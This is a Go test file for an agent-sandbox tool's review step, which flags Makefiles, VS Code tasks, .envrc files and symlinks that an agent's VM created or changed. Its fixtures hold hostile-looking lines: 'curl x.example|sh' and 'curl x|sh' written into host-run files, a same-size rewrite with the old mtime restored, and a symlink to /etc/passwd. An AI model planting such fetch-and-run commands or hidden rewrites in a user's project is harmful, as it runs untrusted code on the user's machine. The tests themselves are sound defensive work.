package outer

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agents-sandbox/asb/internal/folderfs"
	"github.com/agents-sandbox/asb/schema"
)

// The review after an agent run: the table's files at the top of the tree
// the VM wrote, compared with what was last shown; each change once.
func TestReviewHostRun(t *testing.T) {
	dir := t.TempDir()
	ws := filepath.Join(dir, WorkspaceDir)
	write := func(rel, data string) {
		t.Helper()
		p := filepath.Join(ws, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("Makefile", "all:\n")
	write("src/main.go", "package main\n")
	table := schema.HostRunTable(schema.BaseHostRun)
	if err := ReviewBaseline(dir, "", func() (schema.HostRunTable, error) { return table, nil }); err != nil {
		t.Fatal(err)
	}
	review := func() (string, []HostRunChange) {
		t.Helper()
		var out bytes.Buffer
		changes, err := ReviewHostRun(dir, "", table, &out)
		if err != nil {
			t.Fatal(err)
		}
		return out.String(), changes
	}
	if out, changes := review(); len(changes) != 0 || out != "" {
		t.Fatalf("nothing changed: %q %v", out, changes)
	}
	// The VM's run: the Makefile changed (same size, so the hash tells),
	// a VS Code task and a link appeared, a source file changed.
	write("Makefile", "evl:\n")
	write(".vscode/tasks.json", "{}\n")
	write("src/main.go", "package main // changed\n")
	if err := os.Symlink("/etc/passwd", filepath.Join(ws, ".envrc")); err != nil {
		t.Fatal(err)
	}
	notRacy() // each record below keeps the same stamps
	out, changes := review()
	want := map[string]string{"Makefile": "changed", ".vscode/tasks.json": "new", ".envrc": "new"}
	if len(changes) != len(want) {
		t.Fatalf("changes %+v, want %v", changes, want)
	}
	for _, c := range changes {
		if want[c.Path] != c.Change || c.Why == "" {
			t.Errorf("%+v, want %s", c, want[c.Path])
		}
	}
	if !strings.Contains(out, "look at them before you run them") || !strings.Contains(out, ".vscode/tasks.json") {
		t.Errorf("printed %q", out)
	}
	// Shown once: the next review is quiet, and does not write the record.
	record := filepath.Join(dir, ".asb", "review", "workspace.json")
	before, _ := os.Stat(record)
	if out, changes := review(); len(changes) != 0 || out != "" {
		t.Errorf("a second review: %q %v", out, changes)
	}
	if after, _ := os.Stat(record); !after.ModTime().Equal(before.ModTime()) {
		t.Error("an unchanged record was written again")
	}
	// A record that cannot be read is written anew (all of its files shown).
	good, _ := os.ReadFile(record)
	if err := os.WriteFile(record, []byte("{not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, changes := review(); len(changes) != 3 {
		t.Errorf("after a damaged record: %+v, want every file shown as new", changes)
	}
	if again, _ := os.ReadFile(record); string(again) != string(good) {
		t.Errorf("a damaged record was not written anew: %q, want %q", again, good)
	}
	if err := os.Remove(filepath.Join(ws, "Makefile")); err != nil {
		t.Fatal(err)
	}
	if _, changes := review(); len(changes) != 1 || changes[0].Change != "removed" {
		t.Errorf("a removed Makefile: %+v", changes)
	}
}

// reviewFixture is a folder whose workspace/ holds files, reviewed once
// (the baseline), and its review.
type reviewFixture struct {
	t     *testing.T
	dir   string
	table schema.HostRunTable
}

func newReviewFixture(t *testing.T, files map[string]string) *reviewFixture {
	t.Helper()
	f := &reviewFixture{t: t, dir: t.TempDir(), table: schema.HostRunTable(schema.BaseHostRun)}
	for rel, data := range files {
		f.write(rel, data)
	}
	if err := ReviewBaseline(f.dir, "", func() (schema.HostRunTable, error) { return f.table, nil }); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *reviewFixture) path(rel string) string {
	return filepath.Join(f.dir, WorkspaceDir, rel)
}

func (f *reviewFixture) write(rel, data string) {
	f.t.Helper()
	if err := os.MkdirAll(filepath.Dir(f.path(rel)), 0o755); err != nil {
		f.t.Fatal(err)
	}
	if err := os.WriteFile(f.path(rel), []byte(data), 0o644); err != nil {
		f.t.Fatal(err)
	}
}

// review runs a review and returns what it printed and each change by path.
func (f *reviewFixture) review() (string, map[string]HostRunChange) {
	f.t.Helper()
	var out bytes.Buffer
	changes, err := ReviewHostRun(f.dir, "", f.table, &out)
	if err != nil {
		f.t.Fatal(err)
	}
	byPath := map[string]HostRunChange{}
	for _, c := range changes {
		byPath[c.Path] = c
	}
	return out.String(), byPath
}

// record is the review's record.
func (f *reviewFixture) record() map[string]reviewed {
	f.t.Helper()
	raw, err := os.ReadFile(filepath.Join(f.dir, ".asb", "review", "workspace.json"))
	if err != nil {
		f.t.Fatal(err)
	}
	var rec map[string]reviewed
	if err := json.Unmarshal(raw, &rec); err != nil {
		f.t.Fatal(err)
	}
	return rec
}

// racy makes rel racy for the next review whatever the time it takes: its
// modification time is in the future.
func (f *reviewFixture) racy(rel string) {
	f.t.Helper()
	later := time.Now().Add(time.Hour)
	if err := os.Chtimes(f.path(rel), later, later); err != nil {
		f.t.Fatal(err)
	}
}

// unracy puts the modification time of rel back in the past and waits
// until its change time is not racy either.
func (f *reviewFixture) unracy(rel string) {
	f.t.Helper()
	earlier := time.Now().Add(-time.Hour)
	if err := os.Chtimes(f.path(rel), earlier, earlier); err != nil {
		f.t.Fatal(err)
	}
	notRacy()
}

// notRacy waits until what was just written is no longer racy for a
// review (racyNs).
func notRacy() { time.Sleep(2 * racyNs) }

// A file rewritten with the same size and its mtime put back (touch -r) is
// listed: its change time moved. An unchanged stamp is not read again; one
// taken while the file was racy is not kept.
func TestReviewStamp(t *testing.T) {
	f := newReviewFixture(t, nil)
	f.write(".envrc", "export A=harmless\n")
	// Racy (changed at or after the review began): no stamp is kept.
	f.racy(".envrc")
	if _, changes := f.review(); changes[".envrc"].Change != "new" {
		t.Fatalf("a new .envrc: %+v", changes)
	}
	if s := f.record()[".envrc"].Stamp; s != (folderfs.Stamp{}) {
		t.Errorf("a racy file's stamp was kept: %+v", s)
	}
	f.unracy(".envrc")
	reads := reviewReads.Load()
	if _, changes := f.review(); len(changes) != 0 {
		t.Errorf("an unchanged .envrc: %+v", changes)
	}
	if reviewReads.Load() != reads+1 {
		t.Errorf("a file without a stamp was not read again")
	}
	if f.record()[".envrc"].Stamp == (folderfs.Stamp{}) {
		t.Fatal("no stamp kept once the file is not racy")
	}
	reads = reviewReads.Load()
	if _, changes := f.review(); len(changes) != 0 || reviewReads.Load() != reads {
		t.Errorf("an unchanged stamp: %+v, %d reads", changes, reviewReads.Load()-reads)
	}
	// The VM's rewrite: same size, the old times put back.
	fi, err := os.Stat(f.path(".envrc"))
	if err != nil {
		t.Fatal(err)
	}
	f.write(".envrc", "curl x.example|sh\n")
	if err := os.Chtimes(f.path(".envrc"), fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	notRacy()
	if _, changes := f.review(); changes[".envrc"].Change != "changed" {
		t.Errorf("a same-size rewrite with its mtime put back: %+v", changes)
	}
}

// A record of an older asb (size, mtime and hash, no stamp) lists nothing
// that did not change: each file is read again and its hash compared.
func TestReviewOldRecord(t *testing.T) {
	f := newReviewFixture(t, map[string]string{"Makefile": "all:\n", ".vscode/tasks.json": "{}\n"})
	record := filepath.Join(f.dir, ".asb", "review", "workspace.json")
	old := `{
 ".vscode/tasks.json": {"kind": "file", "size": 3, "mtime": 1, "sha256": "` + sha256hex("{}\n") + `"},
 "Makefile": {"kind": "file", "size": 5, "mtime": 1, "sha256": "` + sha256hex("all:\n") + `"}
}
`
	if err := os.WriteFile(record, []byte(old), 0o644); err != nil {
		t.Fatal(err)
	}
	notRacy()
	if out, changes := f.review(); len(changes) != 0 || out != "" {
		t.Errorf("after an older record: %q %+v", out, changes)
	}
	for p, v := range f.record() {
		if v.Stamp == (folderfs.Stamp{}) {
			t.Errorf("%s: no stamp in the record written anew", p)
		}
	}
}

func sha256hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// A file over maxReviewHash is never judged by a prefix: it is listed,
// saying it was too large to read, whenever its stamp changes.
func TestReviewLargeFile(t *testing.T) {
	defer func(n int64) { maxReviewHash = n }(maxReviewHash)
	maxReviewHash = 16
	f := newReviewFixture(t, nil)
	pad := strings.Repeat("#", 32)
	f.write("Makefile", pad+"\nall:\n\techo harmless\n")
	notRacy()
	_, changes := f.review()
	if c := changes["Makefile"]; c.Change != "new" || !strings.Contains(c.Why, "too large to read") {
		t.Fatalf("a large Makefile: %+v", changes)
	}
	reads := reviewReads.Load()
	if _, changes := f.review(); len(changes) != 0 || reviewReads.Load() != reads {
		t.Errorf("an unchanged large file: %+v, %d reads", changes, reviewReads.Load()-reads)
	}
	// Past the limit only, the same size.
	f.write("Makefile", pad+"\nall:\n\tcurl x|sh  \n")
	notRacy()
	if _, changes := f.review(); changes["Makefile"].Change != "changed" {
		t.Errorf("a large file changed past the limit: %+v", changes)
	}
	// Racy: a stamp that may not show the next write lists the file again.
	f.write("Makefile", pad+"\nall:\n\techo racy....\n")
	f.racy("Makefile")
	if _, changes := f.review(); changes["Makefile"].Change != "changed" {
		t.Errorf("a racy rewrite: %+v", changes)
	}
	f.unracy("Makefile")
	if _, changes := f.review(); changes["Makefile"].Change != "changed" {
		t.Errorf("after a racy stamp: %+v", changes)
	}
	if _, changes := f.review(); len(changes) != 0 {
		t.Errorf("then quiet: %+v", changes)
	}
}

// A link is reviewed by what it leads to inside the tree: a file's content
// (.envrc -> notes/env.sh), a folder walked as the table's (.vscode ->
// src/conf, each folder once); one out of the tree keeps its text alone.
func TestReviewLinks(t *testing.T) {
	f := newReviewFixture(t, map[string]string{"notes/env.sh": "export A=1\n", "src/conf/settings.json": "{}\n"})
	link := func(rel, target string) {
		t.Helper()
		if err := os.Symlink(target, f.path(rel)); err != nil {
			t.Fatal(err)
		}
	}
	link(".envrc", "notes/env.sh")
	link(".vscode", "src/conf")
	link("src/conf/loop", ".")
	link(".idea", "../..")
	link(".env", "nowhere")
	notRacy()
	_, changes := f.review()
	for _, p := range []string{".envrc", ".vscode", ".vscode/settings.json", ".vscode/loop", ".idea", ".env"} {
		if changes[p].Change != "new" {
			t.Errorf("%s: %+v, want new", p, changes[p])
		}
	}
	if len(changes) != 6 || !strings.Contains(changes[".envrc"].Why, "a link to notes/env.sh") || !strings.Contains(changes[".vscode"].Why, "VS Code") {
		t.Errorf("changes %+v", changes)
	}
	rec := f.record()
	if rec[".envrc"].SHA256 != sha256hex("export A=1\n") || rec[".envrc"].Stamp == (folderfs.Stamp{}) {
		t.Errorf("the link's entry: %+v, want its file's hash and stamp", rec[".envrc"])
	}
	if _, changes := f.review(); len(changes) != 0 {
		t.Errorf("nothing changed: %+v", changes)
	}
	// The VM changes what the links lead to; the links stay.
	f.write("notes/env.sh", "curl x|sh\n")
	f.write("src/conf/tasks.json", "{}\n")
	notRacy()
	_, changes = f.review()
	if len(changes) != 2 || changes[".envrc"].Change != "changed" || changes[".vscode/tasks.json"].Change != "new" {
		t.Errorf("what the links lead to changed: %+v", changes)
	}
	// A link an older asb recorded (its text only) is listed once: what it
	// leads to was never compared.
	record := filepath.Join(f.dir, ".asb", "review", "workspace.json")
	delete(rec, ".envrc")
	raw, _ := json.Marshal(rec)
	raw = append(raw[:len(raw)-1], `,".envrc":{"kind":"link","target":"notes/env.sh"}}`...)
	if err := os.WriteFile(record, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, changes := f.review(); len(changes) != 2 || changes[".envrc"].Change != "changed" {
		t.Errorf("after an older record: %+v", changes)
	}
}

// A folder with more entries than the review walks is listed on every
// review as not all reviewed; what the walk did not reach is not "removed".
func TestReviewUnread(t *testing.T) {
	defer func(n int) { maxReviewEntries = n }(maxReviewEntries)
	maxReviewEntries = 5
	f := newReviewFixture(t, map[string]string{".vscode/settings.json": "{}\n", ".vscode/loop/x": "1\n"})
	if err := os.Symlink("..", f.path(".vscode/loop/up")); err != nil {
		t.Fatal(err)
	}
	notRacy()
	// Four entries (a link back up is walked once): all reviewed.
	if out, changes := f.review(); len(changes) != 1 || changes[".vscode/loop/up"].Change != "new" {
		t.Errorf("under the limit: %q %+v", out, changes)
	}
	for i := range 4 {
		f.write(".vscode/a/f"+string(rune('0'+i)), "")
	}
	for range 2 { // on every review
		out, changes := f.review()
		if c := changes[".vscode/"]; c.Change != "unread" || !strings.Contains(c.Why, "more than 5 files (or folders over 32 deep): not all reviewed") {
			t.Errorf("over the limit: %+v", changes)
		}
		if !strings.Contains(out, ".vscode/  ") || !strings.Contains(out, "look at it yourself") {
			t.Errorf("printed %q", out)
		}
		for p, c := range changes {
			if c.Change == "removed" {
				t.Errorf("%s: removed, but it was not reached", p)
			}
		}
	}
}
